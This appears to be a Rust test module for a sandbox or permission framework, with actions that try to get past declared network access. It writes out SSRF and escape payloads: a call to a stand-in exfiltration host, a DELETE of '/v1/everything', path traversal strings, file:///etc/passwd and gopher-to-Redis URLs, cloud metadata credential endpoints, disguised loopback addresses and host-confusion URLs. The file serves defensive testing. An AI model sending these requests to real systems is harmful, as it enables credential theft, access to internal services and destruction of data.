//! Attempts to reach what is not declared or not granted.

use wharf::prelude::*;

use crate::{Seen, api, attempt};

/// A path of the declared provider, or a spelling of something else.
#[input]
pub(crate) struct Path {
    /// Goes behind the provider's address as it is.
    path: String,
}

/// A host.
#[input]
pub(crate) struct Host {
    /// With a port where one is meant.
    host: String,
}

/// Call what is declared: this one may get through.
#[action(effect = "read")]
pub(crate) fn declared(call: &Call) -> Result<Seen> {
    attempt(call.get(format!("{}/v1/ok", api(call)?)))
}

/// Call a host that is not declared.
#[action(effect = "read")]
pub(crate) fn other_host(call: &Call) -> Result<Seen> {
    attempt(call.get("https://evil.example/collect"))
}

/// Use a method that is not declared.
#[action(effect = "unsafe-write")]
pub(crate) fn other_method(call: &Call) -> Result<Seen> {
    attempt(call.delete(format!("{}/v1/everything", api(call)?)))
}

/// Leave the declared path, by traversal or encoding: `/v1/../admin`, `/v1/%2e%2e/admin`, `/v1/..%2fadmin`.
#[action(effect = "read")]
pub(crate) fn other_path(call: &Call, input: Path) -> Result<Seen> {
    attempt(call.get(format!("{}{}", api(call)?, input.path)))
}

/// Call another port of the declared host.
#[action(effect = "read")]
pub(crate) fn other_port(call: &Call) -> Result<Seen> {
    let api = api(call)?;
    let (scheme, rest) = api.split_once("://").unwrap_or(("https", &api));
    let host = rest.split([':', '/']).next().unwrap_or(rest);
    attempt(call.get(format!("{scheme}://{host}:22/v1/ok")))
}

/// Use schemes that are not for the web.
#[action(effect = "read")]
pub(crate) fn other_scheme(call: &Call) -> Result<Vec<Seen>> {
    ["file:///etc/passwd", "ftp://api.example.com/v1/", "data:text/plain,x", "gopher://127.0.0.1:6379/_x"]
        .into_iter()
        .map(|url| attempt(call.get(url)))
        .collect()
}

/// Ask the cloud for its credentials.
#[action(effect = "read")]
pub(crate) fn metadata(call: &Call) -> Result<Vec<Seen>> {
    [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://[::ffff:169.254.169.254]/latest/",
    ]
    .into_iter()
    .map(|url| attempt(call.get(url)))
    .collect()
}

/// Spell this machine's own address in odd ways.
#[action(effect = "read")]
pub(crate) fn loopback_spelling(call: &Call) -> Result<Vec<Seen>> {
    [
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://127.1/",
        "http://0/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[::]/",
        "http://localhost/",
        "http://localhost./",
        "http://１２７.0.0.1/",
    ]
    .into_iter()
    .map(|url| attempt(call.get(url)))
    .collect()
}

/// Hide the real host behind user information, a backslash or a fragment.
#[action(effect = "read")]
pub(crate) fn userinfo(call: &Call, input: Host) -> Result<Vec<Seen>> {
    let api = api(call)?;
    let (scheme, declared) = api.split_once("://").unwrap_or(("https", &api));
    let host = input.host;
    [
        format!("{scheme}://{declared}@{host}/v1/"),
        format!("{scheme}://{declared}:x@{host}/v1/"),
        format!("{scheme}://{host}\\@{declared}/v1/"),
        format!("{scheme}://{host}#@{declared}/v1/"),
        format!("{scheme}:\\\\{host}/v1/"),
        format!("{scheme}://{declared}.{host}/v1/"),
    ]
    .into_iter()
    .map(|url| attempt(call.get(url)))
    .collect()
}

/// Follow the declared provider's redirect to wherever it leads.
#[action(effect = "read")]
pub(crate) fn follow_redirect(call: &Call, input: Path) -> Result<Seen> {
    attempt(call.get(format!("{}{}", api(call)?, input.path)).follow_redirects())
}
